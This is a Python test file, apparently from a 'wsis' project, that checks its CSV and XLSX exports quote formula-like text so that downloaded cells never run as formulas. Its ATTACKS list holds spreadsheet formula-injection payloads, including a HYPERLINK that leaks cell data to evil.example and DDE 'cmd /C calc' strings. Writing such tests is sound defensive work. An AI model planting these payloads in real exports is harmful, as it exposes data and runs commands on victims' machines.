"""Every CSV and XLSX writer of the project keeps typed text text: no cell of a download runs as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from wsis.core import cells

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
NUMBERS = ["-5", "+3.5", "-0.25", "1e3"]


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def _assert_csv_guarded(text: str, attacks=ATTACKS):
    found = _csv_cells(text)
    for attack in attacks:
        assert attack not in found, f"{attack!r} written as a bare CSV cell"
        assert "'" + attack in found, f"{attack!r} not written as guarded text"


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_xlsx_guarded(data: bytes, attacks=ATTACKS):
    all_cells = _xlsx_cells(data)
    assert not [c.coordinate for c in all_cells if c.data_type == "f"], "a formula cell in the download"
    by_value = {c.value: c for c in all_cells if isinstance(c.value, str)}
    for attack in attacks:
        clean = cells._illegal().sub("", attack)
        assert clean in by_value, f"{attack!r} missing from the workbook"
        assert by_value[clean].data_type == "s" and by_value[clean].quotePrefix, f"{attack!r} not kept as text"


def test_guard_rules():
    for attack in ATTACKS:
        assert cells.formula_like(attack)
        assert cells.csv_guard(attack) == "'" + attack
        assert cells.csv_unguard(cells.csv_guard(attack)) == attack
    for number in NUMBERS:
        assert not cells.formula_like(number) and cells.csv_guard(number) == number
    assert cells.csv_guard(-5) == -5
    assert cells.csv_guard("'=1") == "''=1" and cells.csv_unguard("''=1") == "'=1"
    assert cells.csv_guard("plain") == "plain" and cells.csv_unguard("'plain") == "'plain"


def test_core_export_csv_and_xlsx():
    from wsis.core.export import csv_response, xlsx_response

    rows = [{"title": a, "amount": -5, "text_amount": "-5"} for a in ATTACKS]
    _assert_csv_guarded(csv_response(rows, "x").content.decode("utf-8"))
    data = xlsx_response(rows, "x").content
    _assert_xlsx_guarded(data)
    amounts = [c.value for c in _xlsx_cells(data) if c.column == 2 and c.row > 1]
    assert amounts and all(v == -5 for v in amounts), "numbers must stay numbers"
    assert all(c.data_type == "n" for c in _xlsx_cells(data) if c.column == 2 and c.row > 1)


def test_stocktaking_tabular_csv_and_xlsx():
    from wsis.stocktaking import tabular

    acts = [{"external_id": f"X-{i}", "kind": "project", "original_language": "en",
             "texts": {"en": {"title": a, "summary": a, "description": a}},
             "lead_organisation": {"name": a}, "contact_name": a, "budget_amount": "5"}
            for i, a in enumerate(ATTACKS)]
    buf = io.StringIO()
    tabular.write_csv(acts, buf)
    _assert_csv_guarded(buf.getvalue())
    out = io.BytesIO()
    tabular.write_xlsx(acts, out)
    _assert_xlsx_guarded(out.getvalue())


def test_planning_workbook():
    from wsis.planning.xlsx import write_plan_xlsx

    data = {"code": "P-1", "start": "2026-01-01", "end": "2026-12-31", "titles": {"en": ATTACKS[0]},
            "objectives": [{"code": f"O{i}", "titles": {"en": a}} for i, a in enumerate(ATTACKS)]}
    _assert_xlsx_guarded(write_plan_xlsx(data))


def test_report_annex():
    from wsis.reports.document import Column, Document, Section, Source, Table
    from wsis.reports.render_xlsx import render_xlsx

    table = Table("T1", ATTACKS[0], [Column("name", ATTACKS[1]), Column("n", "n", "int")],
                  [{"name": a, "n": -5} for a in ATTACKS], source="S1", note=ATTACKS[2])
    doc = Document("cwg", ATTACKS[0], "sub", "en", 2025, "world", "World", "2025-12-31", {"x": "y"},
                   sections=[Section("s", "h", [table])],
                   sources=[Source("S1", ATTACKS[3], {}, ATTACKS[4])], generated_at="2026-01-01T00:00:00")
    data = render_xlsx(doc)
    _assert_xlsx_guarded(data)
    assert [c.value for c in _xlsx_cells(data) if c.value == -5], "numbers must stay numbers"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_download_of_a_typed_formula(fmt):
    from wsis.core.export import download

    body = download([{"title": ATTACKS[0], "n": 1}], "x", fmt).content
    if fmt == "csv":
        _assert_csv_guarded(body.decode("utf-8"), ATTACKS[:1])
    else:
        _assert_xlsx_guarded(body, ATTACKS[:1])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_download_of_nested_figures(fmt):
    from wsis.core.export import download

    body = download([{"days": {"received": 6.0, "assessed": 9.0}}], "x", fmt).content
    text = body.decode("utf-8") if fmt == "csv" else str([c.value for c in _xlsx_cells(body)])
    assert "received" in text and "9.0" in text
